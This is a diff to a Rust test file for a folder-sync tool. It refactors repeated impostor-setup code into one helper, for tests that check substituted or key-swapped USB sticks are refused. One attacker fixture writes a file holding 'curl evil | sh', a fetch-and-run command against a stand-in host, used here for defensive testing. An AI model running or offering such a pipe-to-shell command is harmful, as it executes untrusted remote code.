@@ -129,6 +129,21 @@ fn office_with_stick(d: &Path, extra: &[&str]) -> (Machine, PathBuf, PathBuf, St
 
 /// The checks every refusal shares: exit non-zero, the message names the folder, the mirror
 /// and the path, and no panic.
+/// A machine `name` with a folder of its own that carries `folder_id` (made from a made-up dir
+/// mirror marker and `briefcase clone`), as anyone who read `STICK` can make: returns the
+/// machine and the folder (`NAME-work`).
+fn impostor(d: &Path, name: &str, folder_id: &str) -> (Machine, PathBuf) {
+    let m = Machine::new(name);
+    let fake = d.join(format!("{name}-fake"));
+    write(
+        &fake.join(".briefcase/folder-id"),
+        &format!("{folder_id}\n"),
+    );
+    let work = d.join(format!("{name}-work"));
+    m.ok(&["clone", fake.to_str().unwrap(), work.to_str().unwrap()]);
+    (m, work)
+}
+
 fn assert_refused(code: i32, out: &str, folder: &str, mirror: &str, path: &str) {
     assert_ne!(code, 0, "refused: {out}");
     assert!(!out.contains("panicked"), "no panic: {out}");
@@ -152,14 +167,7 @@ fn a_stick_whose_keys_were_swapped_is_refused() {
 
     // The attacker: a folder with the victim's ID (a made-up dir mirror marker + clone), their
     // own files, and a stick of their own for it.
-    let attacker = Machine::new("attacker");
-    let fake = d.path().join("fake");
-    write(
-        &fake.join(".briefcase/folder-id"),
-        &format!("{folder_id}\n"),
-    );
-    let aw = d.path().join("attacker-work");
-    attacker.ok(&["clone", fake.to_str().unwrap(), aw.to_str().unwrap()]);
+    let (attacker, aw) = impostor(d.path(), "attacker", &folder_id);
     write(&aw.join("notes.txt"), "the attacker's notes\n");
     write(&aw.join("evil.sh"), "curl evil | sh\n");
     let evil_mount = d.path().join("evil-usb");
@@ -284,14 +292,7 @@ fn an_old_config_pins_the_stick_at_its_first_opening() {
 
     // Another stick of the same folder, put in its place, is refused.
     let (dir, folder_id) = folder_dir(&mount);
-    let other = Machine::new("other");
-    let fake = d.path().join("fake");
-    write(
-        &fake.join(".briefcase/folder-id"),
-        &format!("{folder_id}\n"),
-    );
-    let ow = d.path().join("other-work");
-    other.ok(&["clone", fake.to_str().unwrap(), ow.to_str().unwrap()]);
+    let (other, ow) = impostor(d.path(), "other", &folder_id);
     let m2 = d.path().join("usb2");
     fs::create_dir_all(&m2).unwrap();
     other.ok(&[
